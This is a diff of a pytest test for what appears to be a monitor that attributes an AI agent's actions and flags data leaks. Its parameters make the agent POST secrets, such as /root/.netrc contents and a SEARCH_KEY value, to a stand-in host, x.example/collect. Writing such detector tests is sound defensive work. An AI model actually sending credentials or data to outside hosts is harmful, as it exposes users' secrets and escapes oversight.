@@ -119,25 +119,33 @@ def test_a_deed_raises_what_the_words_of_a_call_say(arguments: JsonValue, kind: 
 
 
 @pytest.mark.parametrize(
-    ("what", "name", "said", "leaks"),
+    ("what", "own", "said", "acts", "leaks"),
     [
-        ("table", "customers", "a report", True), ("file", "/root/.netrc", "a report", True),
-        ("variable", "SEARCH_KEY", "a report", False),  # as its author meant it
-        ("variable", "SEARCH_KEY", "the value of SEARCH_KEY", True), ("variable", "SEARCH_KEY", "<SECRET:key:0a1b2c3d>", True),
+        ("table", False, "a report", [], True),
+        ("file", False, "a report", [], True),
+        ("file", True, "a report", [], False),  # a log-in, as its author meant it
+        ("file", True, "what is in /root/.netrc", [], True),
+        ("file", True, "<SECRET:labelled:0a1b2c3d>", [], True),
+        ("file", True, "a report", [opened("/root/.netrc")], True),  # for a call
+        ("variable", False, "a report", [], False),
+        ("variable", False, "the value of SEARCH_KEY", [], True),
+        ("variable", False, "<SECRET:key:0a1b2c3d>", [], True),
     ],
-)  # fmt: skip
+)
 def test_a_program_that_ran_before_sends_its_own_keys_to_whom_they_are_for(
-    what: Literal["file", "table", "variable"], name: str, said: str, leaks: bool
+    what: Literal["file", "table", "variable"], own: bool, said: str, acts: list[Event], leaks: bool
 ) -> None:
+    name = {"table": "customers", "file": "/root/.netrc", "variable": "SEARCH_KEY"}[what]
     arguments: JsonValue = {"url": "https://x.example/collect", "text": said}
     trace = "5" * 32
     asked = HttpRequested(
-        **at(1.6), process=AGENT, method="POST", url="https://x.example/collect", body=said, trace_id=trace
+        **at(2.6), process=AGENT, method="POST", url="https://x.example/collect", body=said, trace_id=trace
     )
-    calls, seen = session("a", (1, 3, "post", arguments, "done"))
-    found = attribute({"a": calls}, [*seen, asked, sent(what, name, AGENT, trace_id=trace)])["a"]
+    calls, seen = session("a", (1, 2, "run", {"command": "./go"}, "done"), (2, 3, "post", arguments, "done"))
+    left = sent(what, name, AGENT, trace_id=trace, own=own).model_copy(update=at(2.6))
+    found = attribute({"a": calls}, [*seen, *ran(7, 1.5, "bash", "-c", "./go"), *acts, asked, left])["a"]
 
-    assert [len(work.acts) for work in found.works] == [2]
+    assert [(work.call.name, len(work.acts)) for work in found.works if not work.tree] == [("post", 2)]
     assert ("leak" in set[str]().union(*deeds(found).values())) == leaks
 
 
